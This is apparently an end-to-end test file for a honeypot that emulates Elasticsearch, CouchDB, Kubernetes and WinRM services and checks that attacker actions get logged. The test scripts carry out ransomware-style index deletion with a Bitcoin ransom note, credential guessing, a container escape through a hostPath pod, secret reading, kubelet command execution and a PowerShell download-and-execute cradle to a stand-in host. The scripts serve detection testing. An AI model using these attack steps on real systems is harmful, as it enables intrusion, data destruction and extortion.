//! Services whose interface is HTTP, with the clients that people use: what the client sees and what is stored agree.

use crate::fleet::{Fleet, client, have, printed};

const FLEET: &str = "[general]\nnet = 127.112.0.0/16\nseed = e2e\n\n\
    [search]\nip = 127.112.1.0\ndistro = debian\nservices = elasticsearch\n\n[search.elasticsearch]\nsecurity = off\n\n\
    [couch]\nip = 127.112.1.1\ndistro = debian\nlogin = accept-after=2\nservices = couchdb\n\n\
    [cluster]\nip = 127.112.1.2\ndistro = ubuntu22\nservices = k8s\n\n\
    [desk]\nip = 127.112.1.3\ndistro = server2019\nlogin = accept-listed\nservices = winrm\n\n\
    [desk.winrm]\npassword = Winter2024!\n";

const SEARCH: &str = "
import sys, warnings
warnings.simplefilter('ignore')
from elasticsearch import Elasticsearch, helpers, NotFoundError
client = Elasticsearch([f'http://{sys.argv[1]}:19200'])
assert client.info()['tagline'] == 'You Know, for Search'
found = client.search(index='customers', body={'query': {'range': {'id': {'lte': 5}}}, 'sort': ['id'], 'size': 3})
assert found['hits']['total']['value'] == 5, found
assert [hit['_source']['id'] for hit in found['hits']['hits']] == [1, 2, 3], found
assert len(list(helpers.scan(client, index='customers', size=20))) == 48
helpers.bulk(client, [{'_index': 'e2e', '_id': n, 'number': n} for n in range(5)])
assert client.count(index='e2e')['count'] == 5
assert client.get(index='e2e', id=3)['_source'] == {'number': 3}
client.indices.delete(index='customers')
client.index(index='read_me', body={'message': 'your data is backed up, send 0.01 BTC'}, refresh=True)
try:
    client.search(index='customers')
    assert False
except NotFoundError:
    print('done')
";

/// OpenSSL 3 has MD4, which NTLM needs, only where somebody asks for it.
const REMOTE: &str = "
import ctypes, sys
crypto = ctypes.CDLL('libcrypto.so.3')
assert all(crypto.OSSL_PROVIDER_load(None, name) for name in (b'legacy', b'default'))
import winrm
from winrm.exceptions import InvalidCredentialsError
url = f'http://{sys.argv[1]}:15985/wsman'
try:
    winrm.Session(url, auth=('administrator', 'e2eguess'), transport='ntlm').run_cmd('whoami')
    assert False
except InvalidCredentialsError:
    pass
session = winrm.Session(url, auth=('administrator', 'Winter2024!'), transport='ntlm')
result = session.run_cmd('whoami')
assert result.status_code == 0 and result.std_out.strip().endswith(b'administrator'), result.std_out
result = session.run_ps('IEX(New-Object Net.WebClient).DownloadString(\"http://192.0.2.9/e2e.ps1\")')
assert result.status_code == 0, result.std_err
assert session.run_cmd('nosuchprogram').status_code == 1
# Remote PowerShell, message by message as evil-winrm and pypsrp send it.
import base64, re, struct, uuid
pool, pipeline = uuid.uuid4(), uuid.uuid4()
SHELL = 'http://schemas.microsoft.com/wbem/wsman/1/windows/shell'
def fragment(number, kind, data):
    blob = struct.pack('<II', 2, kind) + pool.bytes_le + pipeline.bytes_le + data
    return base64.b64encode(struct.pack('>QQBI', number, 0, 3, len(blob)) + blob).decode()
def ask(action, body):
    text = session.protocol.send_message(
        '<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:a=\"a\" xmlns:w=\"w\" xmlns:r=\"%s\">'
        '<s:Header><a:Action>%s</a:Action><a:MessageID>uuid:%s</a:MessageID><w:ResourceURI>'
        'http://schemas.microsoft.com/powershell/Microsoft.PowerShell</w:ResourceURI><w:SelectorSet>'
        '<w:Selector Name=\"ShellId\">%s</w:Selector></w:SelectorSet></s:Header><s:Body>%s</s:Body></s:Envelope>'
        % (SHELL, action, uuid.uuid4(), pool, body))
    text = text.decode() if isinstance(text, bytes) else text
    return b''.join(base64.b64decode(one) for one in re.findall('<rsp:Stream Name=\"stdout\"[^>]*>([^<]*)<', text))
opening = base64.b64encode(b''.join(base64.b64decode(fragment(n, kind, b'<Obj/>'))
    for n, kind in ((1, 0x10002), (2, 0x10004)))).decode()
ask('http://schemas.xmlsoap.org/ws/2004/09/transfer/Create',
    '<r:Shell ShellId=\"%s\"><creationXml>%s</creationXml></r:Shell>' % (pool, opening))
assert b'PSVersionTable' in ask(SHELL + '/Receive', '<r:Receive><r:DesiredStream>stdout</r:DesiredStream></r:Receive>')
script = (b'<Obj><MS><S N=\"Cmd\">whoami; Invoke-E2eNothing</S><B N=\"IsScript\">true</B>'
    b'<B N=\"EndOfStatement\">false</B></MS></Obj>')
ask(SHELL + '/Command', '<r:CommandLine CommandId=\"%s\"><r:Command/><r:Arguments>%s</r:Arguments></r:CommandLine>'
    % (pipeline, fragment(3, 0x21006, script)))
given = ask(SHELL + '/Receive',
    '<r:Receive><r:DesiredStream CommandId=\"%s\">stdout</r:DesiredStream></r:Receive>' % pipeline)
assert b'administrator</S>' in given and b'CommandNotFoundException' in given, given
print('done')
";

const MAPPER: &str = "
import sys
from impacket.dcerpc.v5 import epm, transport, dcomrt
where = transport.DCERPCTransportFactory(f'ncacn_ip_tcp:{sys.argv[1]}[10135]')
dce = where.get_dce_rpc()
dce.connect()
entries = epm.hept_lookup(None, dce=dce)
notes = {entry['annotation'][:-1] for entry in entries}
bindings = [epm.PrintStringBinding(entry['tower']['Floors']) for entry in entries]
assert b'Event log TCPIP' in notes, notes
assert any(binding.startswith('ncacn_ip_tcp:') and binding.endswith('[49664]') for binding in bindings), bindings
dce.disconnect()
dce = where.get_dce_rpc()
dce.connect()
bindings = dcomrt.IObjectExporter(dce).ServerAlive2()
assert any(binding['aNetworkAddr'].startswith(sys.argv[1]) for binding in bindings), bindings
print('done')
";

const EXEC: &str = "
import base64, os, socket, ssl, sys
context = ssl._create_unverified_context()
stream = context.wrap_socket(socket.create_connection((sys.argv[1], 16443)))
stream.sendall(b'GET \
/api/v1/namespaces/default/pods/e2e/exec?command=cat&command=/host/etc/hostname&stdout=true&stderr=true '
    b'HTTP/1.1\\r\\nHost: h\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Version: 13\\r\\n'
    b'Sec-WebSocket-Key: ' + base64.b64encode(os.urandom(16)) + b'\\r\\nSec-WebSocket-Protocol: \
    v4.channel.k8s.io\\r\\n\\r\\n')
told = b''
while True:
    piece = stream.recv(4096)
    if not piece:
        break
    told += piece
assert b'101 Switching Protocols' in told and b'\"status\":\"Success\"' in told, told
print(told)
print('done')
";

/// The client of Python, which speaks WebSockets to programs and ports, and watches.
const CLUSTER: &str = r"
import sys, threading, time, urllib3
urllib3.disable_warnings()
from kubernetes import client, watch
from kubernetes.client.rest import ApiException
from kubernetes.stream import stream, portforward
settings = client.Configuration()
settings.host = f'https://{sys.argv[1]}:16443'
settings.verify_ssl = False
api = client.CoreV1Api(client.ApiClient(settings))
spaces = {space.metadata.name for space in api.list_namespace().items}
assert {'default', 'kube-system'} <= spaces, spaces
pod = lambda name, image, words: {'metadata': {'name': name}, 'spec': {'containers': [
    {'name': 'a', 'image': image, 'command': words}]}}
seen = []
def look():
    for event in watch.Watch().stream(api.list_namespaced_pod, 'default', timeout_seconds=20):
        if event['object'].metadata.name == 'py':
            seen.append(event['type'])
            if event['type'] == 'DELETED':
                return
looking = threading.Thread(target=look)
looking.start()
time.sleep(1)
api.create_namespaced_pod('default', pod('py', 'alpine', ['sh', '-c', 'echo from e2e']))
assert api.read_namespaced_pod_log('py', 'default') == 'from e2e\n'
run = lambda words, **more: stream(api.connect_get_namespaced_pod_exec, 'py', 'default', command=words,
    stderr=True, stdout=True, **more)
assert run(['id'], stdin=False, tty=False).startswith('uid=0(root)')
shell = run(['sh'], stdin=True, tty=False, _preload_content=False)
shell.write_stdin('echo typed $((6*7))\n')
shell.update(timeout=5)
assert 'typed 42' in shell.read_stdout(timeout=5)
shell.close()
try:
    api.read_namespaced_pod('none', 'default')
    assert False
except ApiException as error:
    assert error.status == 404 and 'not found' in error.body, error
api.create_namespaced_pod('default', {'metadata': {'name': 'shop'}, 'spec': {'containers': [
    {'name': 'a', 'image': 'nginx:1.25.3'}]}})
ports = portforward(api.connect_get_namespaced_pod_portforward, 'shop', 'default', ports='80')
site = ports.socket(80)
site.setblocking(True)
site.settimeout(10)
site.sendall(b'GET / HTTP/1.0\r\n\r\n')
told = site.recv(4096)
assert b'nginx/1.25.3' in told, told
api.delete_namespaced_pod('py', 'default')
looking.join()
assert seen == ['ADDED', 'DELETED'], seen
print('done')
";

/// Debian's own, which has the modules of Debian's packages, whichever comes first in the path.
const PYTHON: &str = "/usr/bin/python3";

fn module(name: &str, package: &str) -> bool {
    let found = client(PYTHON, &["-c", &format!("import {name}")]).status.success();
    assert!(found || std::env::var("CI").is_err(), "{name} is missing: apt-get install {package}");
    found
}

fn python(script: &str, ip: &str) -> String {
    let seen = printed(&client(PYTHON, &["-c", script, ip]));
    assert!(seen.ends_with("done\n"), "{seen}");
    seen
}

#[test]
fn interfaces_over_http_take_what_their_clients_say_and_keep_it() {
    let tools = [(PYTHON, "python3"), ("curl", "curl"), ("nmap", "nmap")];
    let modules = [
        ("elasticsearch", "python3-elasticsearch"),
        ("winrm", "python3-winrm"),
        ("impacket", "python3-impacket"),
    ];
    if !tools.iter().all(|(tool, package)| have(tool, package))
        || !modules.iter().all(|(name, package)| module(name, package))
    {
        return;
    }
    let fleet = Fleet::deploy_config(112, FLEET);
    search(&fleet);
    couch(&fleet);
    cluster(&fleet);
    windows(&fleet);
}

fn search(fleet: &Fleet) {
    python(SEARCH, &fleet.ip(0));
    fleet.wait_for_text("exploit_attempt", "technique", "elasticsearch data destruction");
    fleet.wait_for_text("exploit_attempt", "technique", "database ransom note");
    fleet.wait_for_text("query", "query", "\"range\"");
    let list =
        printed(&client("curl", &["-s", &format!("http://{}:19200/_cat/indices?h=index", fleet.ip(0))]));
    assert!(list.contains("read_me") && !list.contains("customers"), "{list}");
}

fn couch(fleet: &Fleet) {
    let url = |path: &str| format!("http://{}:15984{path}", fleet.ip(1));
    let ask = |words: &[&str]| printed(&client("curl", &[&["-s"], words].concat()));
    assert!(ask(&[&url("/")]).starts_with("{\"couchdb\":\"Welcome\",\"version\":\"3.3."));
    assert!(ask(&[&url("/_all_dbs")]).contains("You are not a server admin."));
    assert!(ask(&["-u", "admin:first", &url("/_all_dbs")]).contains("Name or password is incorrect."));
    let list = ask(&["-u", "admin:e2esecond", &url("/_all_dbs")]);
    assert!(list.contains("\"customers\""), "{list}");
    assert_eq!(ask(&["-u", "admin:e2esecond", "-X", "DELETE", &url("/customers")]), "{\"ok\":true}\n");
    fleet.wait_for_text("auth_attempt", "secret_printable", "e2esecond");
    fleet.wait_for_text("exploit_attempt", "technique", "couchdb data destruction");
    let scan = ["-Pn", "-sT", "-sV", "-p", "15984", &fleet.ip(1)];
    let seen = printed(&client("nmap", &scan));
    assert!(seen.contains("CouchDB httpd 3.3."), "{seen}");
}

fn cluster(fleet: &Fleet) {
    let url = |path: &str| format!("https://{}:16443{path}", fleet.ip(2));
    let ask = |words: &[&str]| printed(&client("curl", &[&["-sk"], words].concat()));
    assert!(ask(&[&url("/version")]).contains("\"gitVersion\": \"v1."), "pretty for curl");
    let pod = "{\"kind\":\"Pod\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":\"e2e\"},\"spec\":{\"containers\":[\
        {\"name\":\"a\",\
               \"image\":\"alpine\",\"volumeMounts\":[{\"name\":\"h\",\"mountPath\":\"/host\"}]}],\"volumes\":[{\"n\
                   ame\":\"h\",\
               \"hostPath\":{\"path\":\"/\"}}]}}";
    let made =
        ask(&["-H", "Content-Type: application/json", "-d", pod, &url("/api/v1/namespaces/default/pods")]);
    assert!(made.contains("\"phase\": \"Running\""), "{made}");
    python(EXEC, &fleet.ip(2));
    assert!(ask(&[&url("/api/v1/secrets")]).contains("db-credentials"));
    fleet.wait_for_text("exploit_attempt", "technique", "kubernetes pod with hostPath");
    fleet.wait_for_text("exploit_attempt", "technique", "kubernetes exec into a pod");
    fleet.wait_for_text("file_read", "path", "secrets");
    fleet.wait_for_text("command", "mounts", "/:/host");
    let kubelet = format!("https://{}:20250/run/default/e2e/a", fleet.ip(2));
    assert!(ask(&["-d", "cmd=id", &kubelet]).starts_with("uid=0(root)"));
    let version = ask(&["-o", "/dev/null", "-w", "%{http_version}", &url("/version")]);
    assert_eq!(version, "2", "HTTP/2 is agreed on");
    if module("kubernetes", "python3-kubernetes") {
        python(CLUSTER, &fleet.ip(2));
        fleet.wait_for_text("forward_request", "target", "default/shop:80");
    }
    if have("kubectl", "kubernetes-client") {
        kubectl(fleet);
    }
}

/// kubectl of Debian speaks HTTP/2 to the API, and SPDY to programs and ports.
fn kubectl(fleet: &Fleet) {
    let server = format!("--server=https://{}:16443", fleet.ip(2));
    // Without a name it asks for one.
    let first = [server.as_str(), "--insecure-skip-tls-verify", "--username=e2e", "--password=e2e"];
    let ask = |words: &[&str]| printed(&client("kubectl", &[&first[..], words].concat()));
    let pods = ask(&["get", "pods", "-A", "-o", "wide"]);
    assert!(pods.contains("kube-apiserver-") && pods.contains("NOMINATED NODE"), "{pods}");
    let made = ask(&["run", "kube", "--image=nginx:1.25.3", "--restart=Never"]);
    assert_eq!(made, "pod/kube created\n");
    let ran = ask(&["exec", "kube", "--", "sh", "-c", "echo out; echo bad >&2; exit 3"]);
    assert!(ran.contains("out\n") && ran.contains("bad\n") && ran.contains("exit code 3"), "{ran}");
    assert!(ask(&["describe", "pod", "kube"]).contains("nginx:1.25.3"));
    assert!(ask(&["logs", "kube"]).contains("nginx/1.25.3"));
    let may = ask(&["auth", "can-i", "--list"]);
    assert!(may.contains("*.*") && may.contains("[*]"), "{may}");
    let config = ask(&["create", "configmap", "e2e", "--from-literal=a=b"]);
    assert_eq!(config, "configmap/e2e created\n");
    let patched = ask(&["patch", "configmap", "e2e", "-p", "{\"data\":{\"c\":\"d\"}}"]);
    assert_eq!(patched, "configmap/e2e patched\n");
    let folder = tempfile::tempdir().unwrap();
    let copy = folder.path().join("copy");
    let copied = ask(&["cp", "kube:/etc/hostname", copy.to_str().unwrap()]);
    assert_eq!(std::fs::read_to_string(&copy).unwrap_or(copied), "kube\n");
    let site = forwarded(&first, &folder.path().join("log"));
    assert!(site.contains("Welcome to nginx!"), "{site}");
    fleet.wait_for_text("forward_request", "target", "default/kube:80");
    assert_eq!(ask(&["delete", "pod", "kube", "--wait=true"]), "pod \"kube\" deleted\n");
    fleet.wait_for_text("command", "command", "exec default/kube -- sh -c echo out; echo bad >&2; exit 3");
}

/// What a port of a pod says to who comes through kubectl, and what kubectl says of it.
fn forwarded(first: &[&str], log: &std::path::Path) -> String {
    let script = "log=$1; shift
        kubectl \"$@\" port-forward pod/kube :80 > $log 2>&1 & child=$!
        for turn in $(seq 100); do grep -q Forwarding $log && break; sleep 0.1; done
        port=$(sed -n 's/.*127.0.0.1:\\([0-9]*\\) ->.*/\\1/p' $log)
        curl -s -m 10 http://127.0.0.1:$port/
        kill $child; cat $log";
    let words = [&["-c", script, "sh", log.to_str().unwrap()][..], first].concat();
    printed(&client("sh", &words))
}

fn windows(fleet: &Fleet) {
    python(REMOTE, &fleet.ip(3));
    let line = fleet.wait_for_text("auth_attempt", "secret_kind", "ntlmssp_v2");
    assert!(line["fields"]["crack_line"].as_str().is_some_and(|line| line.contains("::")), "{line}");
    fleet.wait_for_text("command", "command", "whoami");
    fleet.wait_for_text("download_attempt", "url", "http://192.0.2.9/e2e.ps1");
    fleet.wait_for_text("command", "command", "whoami; Invoke-E2eNothing");
    python(MAPPER, &fleet.ip(3));
    fleet.wait_for_text("command", "command", "ept_lookup");
    let scan = ["-Pn", "-sT", "-sV", "-p", "15985,10135", &fleet.ip(3)];
    let seen = printed(&client("nmap", &scan));
    assert!(seen.contains("Microsoft HTTPAPI httpd 2.0") && seen.contains("Microsoft Windows RPC"), "{seen}");
}
